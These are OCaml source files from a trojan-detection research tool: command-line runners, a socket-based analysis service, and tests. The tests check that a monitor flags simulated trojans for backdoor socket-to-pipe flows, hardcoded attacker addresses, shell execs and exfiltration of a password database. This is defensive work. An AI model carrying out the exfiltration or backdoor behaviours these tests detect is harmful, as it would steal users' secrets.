    let store = Option.map open_store store_dir in
    (* Every batch goes through the fleet (jobs=1 is a one-worker
       fleet); outcomes come back in submission order, so this prints
       the exact rows the old sequential loop printed. *)
    let ex = Fleet.Executor.create ~jobs [ "default", engine ] in
    let outcomes =
      Fleet.Executor.run_all ex
        (List.map
           (fun (sc : Guest.Scenario.t) ->
             Fleet.Executor.job ~budgets ~fault
               ~trace:(trace_dir <> None)
               ~store:(Option.is_some store) sc.sc_setup)
           Guest.Corpus.all)
    in
    Fleet.Executor.shutdown ex;
    let failures = ref 0 and errors = ref 0 and degraded = ref 0 in
    Fmt.pr "%-40s %-18s %-22s %s@." "scenario" "expected" "outcome" "notes";
    List.iter2
      (fun (sc : Guest.Scenario.t) (o : Fleet.Executor.outcome) ->
        (* outcomes arrive in submission order, so appending here gives
           a manifest that is byte-identical across --jobs counts *)
        Option.iter
          (fun wh ->
            Option.iter
              (fun sealed ->
                let entry =
                  manifest_entry ~scenario:sc.sc_name
                    ~expected:(Guest.Scenario.expected_label sc.sc_expected)
                    ~matches:(Guest.Scenario.matches sc.sc_expected)
                    ~policy:(if clips then "clips" else "native")
                    ~seed ~fault_plan o.o_result sealed
                in
                ignore (Store.Warehouse.append wh ~entry ~sealed))
              o.o_segment)
          store;
        Option.iter
          (fun dir ->
            Option.iter
              (fun bytes ->
                (* scenario names can hold '/' (W32/MyDoom.B) *)
                let file =
                  String.map
                    (fun c -> if c = '/' || c = ' ' then '_' else c)
                    sc.sc_name
                in
                let oc =
                  open_out (Filename.concat dir (file ^ ".jsonl"))
                in
                output_string oc bytes;
                close_out oc)
              o.o_trace)
          trace_dir;
        match o.o_result with
        | Error e ->
          incr errors;
          Fmt.pr "%-40s %-18s %-22s %a@." sc.sc_name
            (Guest.Scenario.expected_label sc.sc_expected)
            (Fmt.str "error[%s]" (Hth.Error.kind e))
            Hth.Error.pp e
        | Ok r ->
          let v = Hth.Report.verdict r in
          let ok = Guest.Scenario.matches sc.sc_expected v in
          if not ok then incr failures;
          if r.degraded <> [] then incr degraded;
          Fmt.pr "%-40s %-18s %-22s %s@." sc.sc_name
            (Guest.Scenario.expected_label sc.sc_expected)
            (Hth.Report.verdict_label v)
            (String.concat "; "
               ((if ok then [] else [ "MISMATCH" ])
               @ if r.degraded = [] then [] else [ "degraded" ])))
      Guest.Corpus.all outcomes;
    Option.iter Store.Warehouse.close store;
    Fmt.pr "@.%d scenarios: %d verdict mismatches, %d errors, %d degraded@."
      (List.length Guest.Corpus.all)
      !failures !errors !degraded;
    if !failures > 0 || !errors > 0 then exit 1
  in
  Cmd.v (Cmd.info "batch" ~doc)
    Term.(
      const run $ no_tier_flag $ tier_threshold_arg $ trust_nothing_flag
      $ clips_flag $ kill_at_arg
      $ fault_plan_arg $ seed_arg $ budget_args $ share_taint_flag
      $ jobs_arg $ trace_dir_arg $ batch_store_arg)

let trace_cmd =
  let doc =
    "Run a scenario and print its event trace (replayable s-expressions)."
  in
  let run name =
    match Guest.Corpus.find name with
    | None ->
      Printf.eprintf "unknown scenario %S; try `list`\n" name;
      exit 2
    | Some sc ->
      let r = Hth.Session.run sc.sc_setup in
      print_string (Hth.Trace.record r)
  in
  Cmd.v (Cmd.info "trace" ~doc) Term.(const run $ scenario_arg)

let replay_cmd =
  let doc =
    "Replay a recorded trace file through Secpert (offline analysis)."
  in
  let file_arg =
    Arg.(required & pos 0 (some file) None & info [] ~docv:"TRACE" ~doc:"Trace file.")
  in
  let run file clips =
    let ic = open_in_bin file in
    let len = in_channel_length ic in
    let contents = really_input_string ic len in
    close_in ic;
    match Hth.Trace.of_string contents with
    | Error msg ->
      Printf.eprintf "bad trace: %s\n" msg;
      exit 2
    | Ok events ->
      let policy =
        if clips then Secpert.System.Clips else Secpert.System.Native
      in
      let warnings = Hth.Trace.replay ~policy events in
      Fmt.pr "%d events, %d warnings@." (List.length events)
        (List.length warnings);
      List.iter
        (fun w -> Fmt.pr "%s@." (Secpert.Warning.to_string w))
        (Secpert.Warning.dedup warnings)
  in
  Cmd.v (Cmd.info "replay" ~doc) Term.(const run $ file_arg $ clips_flag)

let default =
  Term.(ret (const (`Help (`Pager, None))))

let () =
  let info =
    Cmd.info "hth_run" ~version:"1.0"
      ~doc:"Hunting Trojan Horses: run monitored guest scenarios"
  in
  exit
    (Cmd.eval
       (Cmd.group ~default info
          [ list_cmd; run_cmd; batch_cmd; trace_cmd; replay_cmd ]))
