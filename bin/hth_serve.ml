(* hth_serve: long-lived analysis service over one shared fleet.

     echo '{"scenario":"pma"}' | dune exec bin/hth_serve.exe -- --jobs 4
     dune exec bin/hth_serve.exe -- --socket /tmp/hth.sock --jobs 4

   One flat-JSON request per line in, one response line out, in input
   order (see Fleet.Serve for the protocol).  The engines — native and
   CLIPS policies — are compiled once at startup and forked per
   worker; every connection multiplexes onto the same supervised
   fleet, concurrently in socket mode.

   Supervision (DESIGN.md §17): per-request wall-clock deadline with
   wedged-worker respawn (--deadline), per-connection in-flight window
   (--window, blocks the reader), global admission cap
   (--max-inflight, answers {"status":"overloaded","retry":true}), and
   a default tick budget for budget-less requests
   (--default-tick-budget).  SIGTERM/SIGINT in socket mode stop the
   accept loop, drain in-flight work, flush responses, remove the
   socket file and exit 0; in stdin mode signals keep their default
   behavior (EOF on stdin is the graceful path). *)

open Cmdliner

let resolver name =
  Option.map
    (fun (sc : Guest.Scenario.t) ->
      { Fleet.Serve.t_setup = sc.sc_setup;
        t_expected = Guest.Scenario.expected_label sc.sc_expected;
        t_matches = Guest.Scenario.matches sc.sc_expected })
    (Guest.Corpus.find name)

let jobs_arg =
  let doc = "Size of the worker-domain fleet." in
  Arg.(value & opt int 1 & info [ "jobs"; "j" ] ~docv:"N" ~doc)

let socket_arg =
  let doc =
    "Listen on a Unix socket at $(docv) instead of serving stdin; \
     connections are served concurrently, each as its own request \
     stream over the one shared fleet.  An existing socket file at \
     $(docv) is replaced atomically."
  in
  Arg.(value & opt (some string) None & info [ "socket" ] ~docv:"PATH" ~doc)

let deadline_arg =
  let doc =
    "Wall-clock seconds a session may run before the watchdog fails it \
     with a timeout error and replaces its worker domain.  0 disables \
     supervision (a wedged session then pins its worker forever)."
  in
  Arg.(value & opt float 30. & info [ "deadline" ] ~docv:"SECONDS" ~doc)

let window_arg =
  let doc =
    "Per-connection in-flight request window.  A connection that has \
     this many sessions unanswered stops being read until responses \
     flow — deterministic backpressure."
  in
  Arg.(value & opt int 64 & info [ "window" ] ~docv:"N" ~doc)

let max_inflight_arg =
  let doc =
    "Global in-flight cap across all connections; requests past it are \
     answered with status \"overloaded\" and retry:true.  Clamped to \
     at least the per-connection window."
  in
  Arg.(value & opt int 256 & info [ "max-inflight" ] ~docv:"N" ~doc)

let default_ticks_arg =
  let doc =
    "Instruction-tick budget applied to requests that carry none, so a \
     runaway-but-ticking guest fails deterministically before the \
     wall-clock deadline is needed.  0 disables."
  in
  Arg.(
    value
    & opt int 5_000_000
    & info [ "default-tick-budget" ] ~docv:"TICKS" ~doc)

let grace_arg =
  let doc =
    "Seconds to wait at shutdown for clients to finish reading their \
     responses and close, before their connections are cut."
  in
  Arg.(value & opt float 15. & info [ "grace" ] ~docv:"SECONDS" ~doc)

let store_arg =
  let doc =
    "Record every run request into the trace warehouse at $(docv) \
     (created if missing, extended if present): a sealed segment plus \
     manifest entry per request, appended before the response line is \
     emitted, so a drained server leaves complete runs or no run.  \
     Query with hth_trace --store.  {\"op\":\"store_stats\"} reports \
     totals."
  in
  Arg.(value & opt (some string) None & info [ "store" ] ~docv:"DIR" ~doc)

let create_service ~jobs ~deadline ~window ~max_inflight ~default_ticks
    ?store () =
  let deadline = if deadline > 0. then Some deadline else None in
  Fleet.Serve.create ~jobs ?deadline
    ~max_inflight:(max window max_inflight)
    ~window ~default_ticks:(max 0 default_ticks) ?store ~resolver ()

let serve_fd svc fd =
  let ic = Unix.in_channel_of_descr fd in
  let oc = Unix.out_channel_of_descr fd in
  Fleet.Serve.serve_connection svc
    ~input:(fun () -> try In_channel.input_line ic with _ -> None)
    ~output:(fun line ->
      output_string oc line;
      output_char oc '\n';
      flush oc)
    ()

(* ------------------------------------------------------------------ *)
(* stdin mode: one connection, EOF drains                              *)

let serve_stdin ~jobs ~deadline ~window ~max_inflight ~default_ticks ?store
    () =
  let svc =
    create_service ~jobs ~deadline ~window ~max_inflight ~default_ticks
      ?store ()
  in
  Fun.protect
    ~finally:(fun () -> Fleet.Serve.shutdown svc)
    (fun () ->
      ignore
        (Fleet.Serve.serve_connection svc
           ~input:(fun () -> In_channel.input_line stdin)
           ~output:(fun line ->
             print_string line;
             print_char '\n';
             flush stdout)
           ()))

(* ------------------------------------------------------------------ *)
(* socket mode: concurrent connections, signal-driven graceful drain   *)

type conn_handle = {
  ch_fd : Unix.file_descr;
  ch_thread : Thread.t;
  ch_done : bool ref;
}

let serve_socket ~jobs ~deadline ~window ~max_inflight ~default_ticks
    ~grace ?store path =
  let svc =
    create_service ~jobs ~deadline ~window ~max_inflight ~default_ticks
      ?store ()
  in
  (* Bind at a private temp path, then rename over PATH: atomic
     replacement of a stale socket with no window where PATH is
     missing or where we delete a file we did not create and then
     crash before binding. *)
  let sock = Unix.socket Unix.PF_UNIX Unix.SOCK_STREAM 0 in
  let tmp = Printf.sprintf "%s.%d.tmp" path (Unix.getpid ()) in
  (try if Sys.file_exists tmp then Sys.remove tmp with Sys_error _ -> ());
  (try
     Unix.bind sock (Unix.ADDR_UNIX tmp);
     Unix.listen sock 16;
     Unix.rename tmp path
   with e ->
     (try Unix.close sock with Unix.Unix_error _ -> ());
     (try Sys.remove tmp with Sys_error _ -> ());
     raise e);
  (* Self-pipe: the handler only sets a flag and pokes the pipe, which
     wakes the select below even if the EINTR is swallowed. *)
  let stop = Atomic.make false in
  let stop_rd, stop_wr = Unix.pipe () in
  Unix.set_nonblock stop_wr;
  let on_signal _ =
    Atomic.set stop true;
    try ignore (Unix.write stop_wr (Bytes.make 1 '!') 0 1)
    with Unix.Unix_error _ -> ()
  in
  Sys.set_signal Sys.sigterm (Sys.Signal_handle on_signal);
  Sys.set_signal Sys.sigint (Sys.Signal_handle on_signal);
  Sys.set_signal Sys.sigpipe Sys.Signal_ignore;
  let conns_mu = Mutex.create () in
  let conns = ref [] in
  let handle fd fin =
    (try
       let n = serve_fd svc fd in
       Printf.eprintf "hth_serve: connection done, %d request%s\n%!" n
         (if n = 1 then "" else "s")
     with e ->
       Printf.eprintf "hth_serve: connection error: %s\n%!"
         (Printexc.to_string e));
    fin := true;
    (try Unix.shutdown fd Unix.SHUTDOWN_ALL with Unix.Unix_error _ -> ());
    try Unix.close fd with Unix.Unix_error _ -> ()
  in
  Printf.eprintf "hth_serve: listening on %s (%d worker%s)\n%!" path jobs
    (if jobs = 1 then "" else "s");
  Fun.protect
    ~finally:(fun () ->
      (try Unix.close sock with Unix.Unix_error _ -> ());
      (* always leave no socket file behind, whatever path got us here *)
      try Sys.remove path with Sys_error _ -> ())
    (fun () ->
      let rec accept_loop () =
        if not (Atomic.get stop) then begin
          match Unix.select [ sock; stop_rd ] [] [] (-1.) with
          | exception Unix.Unix_error (Unix.EINTR, _, _) -> accept_loop ()
          | readable, _, _ ->
            if List.mem sock readable && not (Atomic.get stop) then begin
              (match Unix.accept sock with
               | exception Unix.Unix_error (Unix.EINTR, _, _) -> ()
               | exception
                   Unix.Unix_error
                     ( (Unix.ECONNABORTED | Unix.EAGAIN | Unix.EWOULDBLOCK),
                       _, _ ) ->
                 ()
               | fd, _ ->
                 (* a client that stops reading must not wedge the
                    drain: writes time out, the connection goes dead *)
                 (try Unix.setsockopt_float fd Unix.SO_SNDTIMEO 10.
                  with Unix.Unix_error _ -> ());
                 let fin = ref false in
                 let th = Thread.create (fun fd -> handle fd fin) fd in
                 Mutex.lock conns_mu;
                 conns :=
                   { ch_fd = fd; ch_thread = th; ch_done = fin } :: !conns;
                 Mutex.unlock conns_mu);
              accept_loop ()
            end
            else accept_loop ()
        end
      in
      accept_loop ();
      Printf.eprintf "hth_serve: draining\n%!";
      (* Stop accepting, refuse new work, let connections finish
         reading and flush every in-flight response; cut stragglers
         after the grace period so drain always terminates. *)
      (try Unix.close sock with Unix.Unix_error _ -> ());
      Fleet.Serve.drain svc;
      Mutex.lock conns_mu;
      let cs = !conns in
      Mutex.unlock conns_mu;
      let closer =
        Thread.create
          (fun () ->
            let steps = int_of_float (ceil (grace *. 10.)) in
            let rec wait n =
              if n > 0 && List.exists (fun c -> not !(c.ch_done)) cs then begin
                Thread.delay 0.1;
                wait (n - 1)
              end
            in
            wait (max 1 steps);
            List.iter
              (fun c ->
                if not !(c.ch_done) then
                  try Unix.shutdown c.ch_fd Unix.SHUTDOWN_RECEIVE
                  with Unix.Unix_error _ -> ())
              cs)
          ()
      in
      List.iter (fun c -> Thread.join c.ch_thread) cs;
      Thread.join closer;
      Fleet.Serve.shutdown svc;
      Printf.eprintf "hth_serve: drained, bye\n%!")

let main jobs socket deadline window max_inflight default_ticks grace
    store_dir =
  let jobs = max 1 jobs in
  let window = max 1 window in
  let store =
    match store_dir with
    | None -> None
    | Some dir -> (
      match Store.Warehouse.open_ dir with
      | Ok wh -> Some wh
      | Error e ->
        Printf.eprintf "hth_serve: %s\n%!" (Hth.Error.to_string e);
        exit 2)
  in
  Fun.protect
    ~finally:(fun () -> Option.iter Store.Warehouse.close store)
    (fun () ->
      match socket with
      | None ->
        serve_stdin ~jobs ~deadline ~window ~max_inflight ~default_ticks
          ?store ()
      | Some path ->
        serve_socket ~jobs ~deadline ~window ~max_inflight ~default_ticks
          ~grace ?store path)

let () =
  let doc = "Hunting Trojan Horses: line-framed JSON analysis service" in
  let info = Cmd.info "hth_serve" ~version:"1.0" ~doc in
  exit
    (Cmd.eval
       (Cmd.v info
          Term.(
            const main $ jobs_arg $ socket_arg $ deadline_arg $ window_arg
            $ max_inflight_arg $ default_ticks_arg $ grace_arg
            $ store_arg)))
