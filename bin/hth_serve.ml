(* hth_serve: long-lived analysis service over the fleet.

     echo '{"scenario":"pma"}' | dune exec bin/hth_serve.exe -- --jobs 4
     dune exec bin/hth_serve.exe -- --socket /tmp/hth.sock --jobs 4

   One flat-JSON request per line in, one response line out, in input
   order (see Fleet.Serve for the protocol).  The engines — native and
   CLIPS policies — are compiled once at startup and forked per
   worker; every connection or stdin stream reuses them. *)

open Cmdliner

let resolver name =
  Option.map
    (fun (sc : Guest.Scenario.t) ->
      { Fleet.Serve.t_setup = sc.sc_setup;
        t_expected = Guest.Scenario.expected_label sc.sc_expected;
        t_matches = Guest.Scenario.matches sc.sc_expected })
    (Guest.Corpus.find name)

let jobs_arg =
  let doc = "Size of the worker-domain fleet." in
  Arg.(value & opt int 1 & info [ "jobs"; "j" ] ~docv:"N" ~doc)

let socket_arg =
  let doc =
    "Listen on a Unix socket at $(docv) instead of serving stdin; \
     connections are served one at a time, each as its own request \
     stream.  An existing socket file at $(docv) is replaced."
  in
  Arg.(value & opt (some string) None & info [ "socket" ] ~docv:"PATH" ~doc)

let serve_channel ~jobs ic oc =
  Fleet.Serve.run ~jobs ~resolver
    ~input:(fun () -> In_channel.input_line ic)
    ~output:(fun line ->
      output_string oc line;
      output_char oc '\n';
      flush oc)
    ()

let serve_stdin jobs =
  ignore (serve_channel ~jobs stdin stdout)

let serve_socket jobs path =
  if Sys.file_exists path then Sys.remove path;
  let sock = Unix.socket Unix.PF_UNIX Unix.SOCK_STREAM 0 in
  Unix.bind sock (Unix.ADDR_UNIX path);
  Unix.listen sock 8;
  Printf.eprintf "hth_serve: listening on %s (%d worker%s)\n%!" path jobs
    (if jobs = 1 then "" else "s");
  let rec accept_loop () =
    let fd, _ = Unix.accept sock in
    let ic = Unix.in_channel_of_descr fd in
    let oc = Unix.out_channel_of_descr fd in
    (try
       let n = serve_channel ~jobs ic oc in
       Printf.eprintf "hth_serve: connection done, %d request%s\n%!" n
         (if n = 1 then "" else "s")
     with e ->
       Printf.eprintf "hth_serve: connection error: %s\n%!"
         (Printexc.to_string e));
    (try Unix.close fd with Unix.Unix_error _ -> ());
    accept_loop ()
  in
  accept_loop ()

let main jobs socket =
  let jobs = max 1 jobs in
  match socket with
  | None -> serve_stdin jobs
  | Some path -> serve_socket jobs path

let () =
  let doc = "Hunting Trojan Horses: line-framed JSON analysis service" in
  let info = Cmd.info "hth_serve" ~version:"1.0" ~doc in
  exit (Cmd.eval (Cmd.v info Term.(const main $ jobs_arg $ socket_arg)))
