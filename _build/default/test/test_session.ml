(* Behavioural tests over full monitored sessions: the paper's reported
   transcripts, pattern derivation (Table 1), enforcement, and the
   Appendix B checker on real corpus images. *)

let check = Alcotest.(check bool)
let check_int = Alcotest.(check int)

let find name =
  match Guest.Corpus.find name with
  | Some sc -> sc
  | None -> Alcotest.failf "missing corpus scenario %s" name

let run name = Hth.Session.run (find name).sc_setup

let warning_mentioning r needle =
  List.exists
    (fun w ->
      Astring.String.is_infix ~affix:needle (Secpert.Warning.to_string w))
    r.Hth.Session.warnings

(* --- paper transcripts (Section 8.3) ------------------------------- *)

let test_elm_transcript () =
  let r = run "ElmExploit" in
  check "warns about tmpmail" true (warning_mentioning r "tmpmail");
  (* the paper's miss: system()'s execve of /bin/sh is filtered *)
  check "no execve warning" false (warning_mentioning r "SYS_execve");
  (* ... but the event itself was observed, as the paper notes *)
  check "execve event exists" true
    (List.exists
       (function
         | Harrier.Events.Exec { path; _ } -> path.r_name = "/bin/sh"
         | _ -> false)
       r.events)

let test_grabem_transcript () =
  let r = run "grabem" in
  check "names .exrc%" true (warning_mentioning r ".exrc%");
  check "data from the binary" true
    (warning_mentioning r "BINARY:(\"/exploits/grabem\")")

let test_vixie_transcript () =
  let r = run "vixie crontab" in
  check "warns about ./Window" true (warning_mentioning r "./Window");
  check "warns about crontab exec" true
    (warning_mentioning r "/usr/bin/crontab")

let test_pma_transcript () =
  let r = run "pma" in
  let highs =
    List.filter
      (fun w -> w.Secpert.Warning.severity = Secpert.Severity.High)
      r.distinct
  in
  check "several High warnings" true (List.length highs >= 3);
  check "server address hardcoded line" true
    (warning_mentioning r "server with the address: LocalHost:11111");
  check "socket-to-pipe flow" true (warning_mentioning r "inpipe");
  check "pipe-to-socket flow" true (warning_mentioning r "outpipe")

let test_superforker_warnings () =
  let r = run "superforker" in
  check "file spray warning" true
    (warning_mentioning r "originated from a BINARY");
  check "clone frequency warning" true
    (warning_mentioning r "SYS_clone");
  check "medium rate warning" true
    (List.exists
       (fun w -> w.Secpert.Warning.severity = Secpert.Severity.Medium)
       r.warnings)

let test_mytob_remote_execve () =
  let r = run "W32.Mytob.J@mm" in
  check "IRC-commanded execve is High" true
    (List.exists
       (fun w ->
         w.Secpert.Warning.rule = "check_execve"
         && w.Secpert.Warning.severity = Secpert.Severity.High)
       r.warnings)

(* --- Table 1 pattern derivation ------------------------------------ *)

let test_patterns_lodeight () =
  let r = run "Trojan.Lodeight.A" in
  let p = Hth.Patterns.derive r in
  check "no user intervention" true p.no_user_intervention;
  check "remotely directed (backdoor accept)" true p.remotely_directed;
  check "hardcoded resources" true p.hardcoded_resources

let test_patterns_vundo_degrades () =
  let r = run "Trojan.Vundo" in
  let p = Hth.Patterns.derive r in
  check "degrading performance" true p.degrading_performance

let test_patterns_benign_program () =
  let r = run "pico" in
  let p = Hth.Patterns.derive r in
  check "user intervention seen" false p.no_user_intervention;
  check "not remotely directed" false p.remotely_directed

let test_patterns_row_rendering () =
  let p =
    { Hth.Patterns.no_user_intervention = true; remotely_directed = false;
      hardcoded_resources = true; degrading_performance = false }
  in
  Alcotest.(check (list string)) "marks" [ "x"; ""; "x"; "" ]
    (Hth.Patterns.row p)

(* --- report and verdicts -------------------------------------------- *)

let test_verdicts () =
  check "benign verdict" true
    (Hth.Report.equal_verdict Hth.Report.Benign
       (Hth.Report.verdict (run "User input")));
  check "labels" true
    (Hth.Report.verdict_label (Suspicious Secpert.Severity.High)
     = "suspicious[HIGH]");
  check "verdict inequality" false
    (Hth.Report.equal_verdict (Suspicious Secpert.Severity.Low)
       (Suspicious Secpert.Severity.High))

(* --- enforcement ----------------------------------------------------- *)

let test_auto_kill_stops_exfiltration () =
  let sc = find "pwsafe (trojaned)" in
  (* without enforcement the database reaches the attacker *)
  let observed = Hth.Session.run sc.sc_setup in
  check "exfiltration happened" true
    (List.exists
       (function
         | Harrier.Events.Transfer { target; _ } ->
           target.r_kind = Harrier.Events.R_socket
         | _ -> false)
       observed.events);
  (* with enforcement the process dies at the warning, before the send *)
  let enforced =
    Hth.Session.run ~auto_kill:Secpert.Severity.High sc.sc_setup
  in
  check "process killed" true
    (List.exists
       (fun (_, _, st) ->
         match st with Osim.Process.Killed _ -> true | _ -> false)
       enforced.os_report.rep_final)

(* --- thresholds are honoured ---------------------------------------- *)

let test_custom_thresholds () =
  (* with an absurdly high clone threshold the forker looks benign *)
  let sc = find "loop forker" in
  let thresholds =
    { Secpert.Context.default_thresholds with clone_count_low = 10_000;
      clone_rate_medium = 10_000 }
  in
  let r = Hth.Session.run ~thresholds sc.sc_setup in
  check_int "no clone warnings" 0 (List.length r.warnings)

(* --- Appendix B on corpus images ------------------------------------ *)

let image_of_scenario name =
  let sc = find name in
  List.find
    (fun (img : Binary.Image.t) -> String.equal img.path sc.sc_setup.main)
    sc.sc_setup.programs

let test_secure_binary_on_corpus () =
  check "exec_user is a Secure Binary" true
    (Hth.Secure_binary.is_secure (image_of_scenario "User input"));
  check "exec_hard is not" false
    (Hth.Secure_binary.is_secure (image_of_scenario "Hardcode"));
  let violations =
    Hth.Secure_binary.check (image_of_scenario "Hardcode")
  in
  (match violations with
   | [ v ] ->
     check "violation names execve" true (v.v_syscall = "SYS_execve")
   | _ -> Alcotest.fail "expected exactly one violation")

(* --- the whole corpus classifies correctly -------------------------- *)

let test_corpus_classification () =
  let failures =
    List.filter_map
      (fun (sc : Guest.Scenario.t) ->
        let r = Guest.Scenario.run sc in
        let v = Hth.Report.verdict r in
        if Guest.Scenario.matches sc.sc_expected v then None
        else
          Some
            (Fmt.str "%s: expected %s, got %s" sc.sc_name
               (Guest.Scenario.expected_label sc.sc_expected)
               (Hth.Report.verdict_label v)))
      Guest.Corpus.all
  in
  if failures <> [] then
    Alcotest.failf "misclassified:\n%s" (String.concat "\n" failures)

(* --- monitoring transparency ----------------------------------------- *)

let test_monitor_transparency () =
  (* the monitor must not perturb guest-visible behaviour: console
     output and final process states agree with an unmonitored run *)
  List.iter
    (fun name ->
      let sc = find name in
      let monitored = (Hth.Session.run sc.sc_setup).os_report in
      let bare = Hth.Session.run_unmonitored sc.sc_setup in
      Alcotest.(check string)
        (name ^ ": console identical")
        bare.rep_console monitored.rep_console;
      check_int
        (name ^ ": same number of processes")
        (List.length bare.rep_final)
        (List.length monitored.rep_final);
      List.iter2
        (fun (_, _, s1) (_, _, s2) ->
          Alcotest.(check string)
            (name ^ ": process states identical")
            (Fmt.to_to_string Osim.Process.pp_state s1)
            (Fmt.to_to_string Osim.Process.pp_state s2))
        bare.rep_final monitored.rep_final)
    [ "grabem"; "pma"; "column"; "wc"; "Tic Tac Toe (trojaned)";
      "File->Socket: Hardcoded, Hardcoded" ]

let test_report_rendering () =
  let r = run "grabem" in
  let text = Fmt.to_to_string (Hth.Report.pp_result ~verbose:true) r in
  check "mentions verdict" true
    (Astring.String.is_infix ~affix:"suspicious[HIGH]" text);
  check "verbose includes events" true
    (Astring.String.is_infix ~affix:"events (" text)

let test_corpus_scale () =
  check "corpus has at least 55 scenarios" true
    (List.length Guest.Corpus.all >= 55)

let test_corpus_names_unique () =
  let names = Guest.Corpus.names in
  check_int "no duplicate scenario names"
    (List.length names)
    (List.length (List.sort_uniq compare names))

let suite =
  [ Alcotest.test_case "ElmExploit transcript (incl. the miss)" `Quick
      test_elm_transcript;
    Alcotest.test_case "grabem transcript" `Quick test_grabem_transcript;
    Alcotest.test_case "vixie transcript" `Quick test_vixie_transcript;
    Alcotest.test_case "pma transcript" `Quick test_pma_transcript;
    Alcotest.test_case "superforker warnings" `Quick
      test_superforker_warnings;
    Alcotest.test_case "mytob remote execve" `Quick
      test_mytob_remote_execve;
    Alcotest.test_case "patterns: lodeight" `Quick test_patterns_lodeight;
    Alcotest.test_case "patterns: vundo degrades" `Quick
      test_patterns_vundo_degrades;
    Alcotest.test_case "patterns: benign program" `Quick
      test_patterns_benign_program;
    Alcotest.test_case "patterns: row rendering" `Quick
      test_patterns_row_rendering;
    Alcotest.test_case "report verdicts" `Quick test_verdicts;
    Alcotest.test_case "auto-kill stops exfiltration" `Quick
      test_auto_kill_stops_exfiltration;
    Alcotest.test_case "custom thresholds" `Quick test_custom_thresholds;
    Alcotest.test_case "secure binary on corpus images" `Quick
      test_secure_binary_on_corpus;
    Alcotest.test_case "whole corpus classifies correctly" `Slow
      test_corpus_classification;
    Alcotest.test_case "corpus names unique" `Quick
      test_corpus_names_unique;
    Alcotest.test_case "monitoring transparency" `Quick
      test_monitor_transparency;
    Alcotest.test_case "report rendering" `Quick test_report_rendering;
    Alcotest.test_case "corpus scale" `Quick test_corpus_scale ]
