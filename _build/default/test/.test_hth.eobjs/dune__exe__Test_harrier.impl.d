test/test_harrier.ml: Alcotest Array Asm Binary Guest Harrier Hth Isa List Osim Taint Vm
