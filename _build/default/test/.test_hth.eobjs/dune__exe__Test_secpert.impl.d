test/test_secpert.ml: Alcotest Astring Expert Facts Fmt Harrier List Osim Secpert Severity System Taint Trust Warning
