test/test_osim.ml: Abi Alcotest Asm Astring Binary Bytes Char Fs Guest Int32 Kernel List Net Osim Process String Vm
