test/test_taint.ml: Alcotest List Origin Source String Tagset Taint
