test/test_vm.ml: Alcotest Array Binary Isa List Machine Vm
