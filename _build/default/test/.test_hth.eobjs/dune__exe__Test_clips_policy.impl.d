test/test_clips_policy.ml: Alcotest Fmt Guest Harrier Hth List Secpert String Taint
