test/test_hth.mli:
