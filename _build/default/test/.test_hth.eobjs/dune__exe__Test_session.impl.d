test/test_session.ml: Alcotest Astring Binary Fmt Guest Harrier Hth List Osim Secpert String
