test/test_extensions.ml: Alcotest Asm Binary Guest Harrier Hth List Osim Secpert Taint
