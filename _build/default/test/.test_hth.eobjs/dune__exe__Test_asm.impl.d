test/test_asm.ml: Alcotest Array Asm Astring Binary Bytes Char Isa List Vm
