test/test_trace.ml: Alcotest Fmt Guest Harrier Hth List Secpert Taint
