test/test_props.ml: Array Binary Expert Fmt Fun Gen Harrier Hth Isa List Osim Printf QCheck QCheck_alcotest String Taint Test Vm
