test/test_expert.ml: Alcotest Clips Engine Expert Fact List Pattern Sexp Template Value
