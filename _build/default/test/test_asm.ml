(* Unit tests for the two-pass assembler and the image linker. *)

let check = Alcotest.(check bool)
let check_int = Alcotest.(check int)
let check_str = Alcotest.(check string)

let unit_ ?(path = "/t/u") ?(kind = Binary.Image.Executable) ?needed () =
  Asm.create ?needed ~path ~kind ~base:0x1000 ()

let test_forward_label () =
  let u = unit_ () in
  Asm.jmp u "end";  (* forward reference *)
  Asm.nop u;
  Asm.label u "end";
  Asm.hlt u;
  let img = Asm.finalize u in
  (match img.text.(0) with
   | Isa.Insn.Jmp (Isa.Operand.Imm a) -> check_int "forward target" 0x1002 a
   | _ -> Alcotest.fail "expected jmp")

let test_backward_label () =
  let u = unit_ () in
  Asm.label u "top";
  Asm.nop u;
  Asm.jmp u "top";
  let img = Asm.finalize u in
  match img.text.(1) with
  | Isa.Insn.Jmp (Isa.Operand.Imm 0x1000) -> ()
  | _ -> Alcotest.fail "backward target wrong"

let test_data_layout () =
  let u = unit_ () in
  Asm.asciz u "greeting" "hi";  (* .rodata *)
  Asm.word u "counter" 0x11223344;  (* .data *)
  Asm.label u "_start";
  Asm.movl u Asm.eax (Asm.lbl "greeting");
  Asm.movl u Asm.ebx (Asm.mlbl "counter");
  Asm.hlt u;
  let img = Asm.finalize u in
  check_int "two sections" 2 (List.length img.sections);
  let ro = List.find (fun (s : Binary.Section.t) -> s.name = ".rodata")
      img.sections
  in
  let rw = List.find (fun (s : Binary.Section.t) -> s.name = ".data")
      img.sections
  in
  check "rodata after text" true (ro.addr >= 0x1000 + 3);
  check_int "rodata aligned" 0 (ro.addr land 15);
  check "data after rodata" true (rw.addr >= ro.addr + 3);
  check_str "asciz NUL-terminated" "hi\000" (Bytes.to_string ro.bytes);
  check_int "word little-endian" 0x44 (Char.code (Bytes.get rw.bytes 0));
  (* the mov immediates must point at the sections *)
  (match img.text.(0) with
   | Isa.Insn.Mov (_, _, Isa.Operand.Imm a) ->
     check_int "greeting address" ro.addr a
   | _ -> Alcotest.fail "mov imm expected");
  match img.text.(1) with
  | Isa.Insn.Mov (_, _, Isa.Operand.Mem { disp; _ }) ->
    check_int "counter address" rw.addr disp
  | _ -> Alcotest.fail "mov mem expected"

let test_space_zeroed () =
  let u = unit_ () in
  Asm.space u "buf" 16;
  Asm.hlt u;
  let img = Asm.finalize u in
  let rw = List.find (fun (s : Binary.Section.t) -> s.name = ".data")
      img.sections
  in
  check_int "reserved size" 16 (Bytes.length rw.bytes);
  check "zeroed" true
    (Bytes.for_all (fun c -> c = '\000') rw.bytes)

let test_duplicate_label_rejected () =
  let u = unit_ () in
  Asm.label u "x";
  (match Asm.label u "x" with
   | exception Failure _ -> ()
   | () -> Alcotest.fail "duplicate text label accepted");
  match Asm.asciz u "x" "s" with
  | exception Failure _ -> ()
  | () -> Alcotest.fail "duplicate data label accepted"

let test_undefined_label_rejected () =
  let u = unit_ () in
  Asm.movl u Asm.eax (Asm.lbl "ghost");
  match Asm.finalize u with
  | exception Failure _ -> ()
  | _ -> Alcotest.fail "undefined label accepted"

let test_undefined_jump_rejected () =
  let u = unit_ () in
  Asm.jmp u "nowhere";
  match Asm.finalize u with
  | exception Failure _ -> ()
